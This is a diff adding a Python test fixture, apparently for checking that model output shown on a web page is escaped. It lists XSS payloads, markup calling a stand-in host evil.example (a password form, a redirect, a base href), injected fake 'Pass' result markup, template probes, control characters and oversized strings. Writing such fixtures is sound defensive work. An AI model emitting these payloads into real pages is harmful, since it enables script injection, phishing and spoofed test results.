@@ -1,0 +1,61 @@
+"""Fifty things a model could say to the page instead of to the customer."""
+
+MARKUP = (
+    "<script>document.title='owned'</script>",
+    "<img src=x onerror=\"document.title='owned'\">",
+    "<svg onload=\"document.title='owned'\">",
+    "<svg><script>document.title='owned'</script></svg>",
+    "<iframe src='javascript:top.document.title=1'></iframe>",
+    "<iframe srcdoc='<script>top.document.title=1</script>'></iframe>",
+    "<object data='data:text/html,<script>1</script>'></object>",
+    "<embed src='https://evil.example/x'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>*{display:none!important}</style>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<form action='https://evil.example/'><input name=password></form>",
+    "<a href='https://evil.example/'>Log in again</a>",
+    "<a href='javascript:document.title=1'>next</a>",
+    "<details open ontoggle=\"document.title='owned'\">x</details>",
+    "<video><source onerror=\"document.title='owned'\"></video>",
+    "<body onload=\"document.title='owned'\">",
+    "</li></ol></section></main></body></html>",
+    '</div><li class="row ghost" id="f1">◌ Missed required read</li>',
+    '<section class="outcome pass"><p class="word">✓ Pass</p></section>',
+    "<!-- ",
+    "<![CDATA[ ",
+    "]]>",
+    "<plaintext>",
+    "<template><script>1</script>",
+    "<math><mtext><script>document.title=1</script></mtext></math>",
+    '"><script>document.title=1</script>',
+    "' onmouseover='document.title=1",
+    '" autofocus onfocus="document.title=1',
+    "`${document.title=1}`",
+    "&lt;script&gt;document.title=1&lt;/script&gt;",
+    "&#60;script&#62;",
+)
+TEMPLATES = (
+    "{{ 7|add:7 }}",
+    "{% load static %}{% debug %}",
+    "{% include 'base.html' %}",
+    "{# a comment #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+)
+CHARACTERS = (
+    "\u202e\u2066 turned around",
+    "\x00\x07\x1b[2J\x1b[31m red",
+    "\u200b\u200b\ufeff\u2060 nothing to see",
+    "a" + "\u0301" * 500,
+    "\U000e0041\U000e0042 tagged",
+    "\u2028\u2029\x85 lines",
+)
+SIZES = (
+    "A" * 6000,
+    "\n" * 3000 + "at the bottom",
+    "😀" * 3000,
+    "اختبار " * 800,
+    "\n".join(str(number) for number in range(10_000)),
+)
+ATTACKS = (*MARKUP, *TEMPLATES, *CHARACTERS, *SIZES)
